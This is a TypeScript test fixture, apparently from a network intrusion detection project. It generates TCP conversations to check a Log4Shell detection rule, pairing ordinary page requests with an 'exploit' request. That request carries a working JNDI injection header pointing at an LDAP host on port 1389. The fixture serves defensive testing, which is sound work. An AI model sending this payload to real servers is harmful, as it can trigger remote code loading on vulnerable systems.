/** What goes over the wire of a box: an exploit that a shipped rule knows, and ordinary talk around it. */
import { type Ends, tcpConversation } from '../traffic/frames.ts'

/** Of `rules/log4shell-jndi`: critical, and proven, as its handshake is whole. */
export const RULE = 'sid:1000003'

function request(path: string, ...headers: string[]): string {
  const lines = [
    `GET ${path} HTTP/1.1`,
    'Host: shop.example',
    'User-Agent: Mozilla/5.0',
    ...headers,
  ]
  return `${lines.join('\r\n')}\r\n\r\n`
}

const ANSWER = 'HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n'

export function exploit(ends: Ends): Buffer[] {
  const asked = request('/', 'X-Api-Version: ${jndi:ldap://198.51.100.66:1389/a}') // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack
  return talk(ends, asked)
}

export function browse(ends: Ends, page: number): Buffer[] {
  return talk(ends, request(`/page/${page}`))
}

function talk(ends: Ends, asked: string): Buffer[] {
  return tcpConversation({ destPort: 80, ...ends }, [
    { from: 'client', data: asked },
    { from: 'server', data: ANSWER },
  ])
}
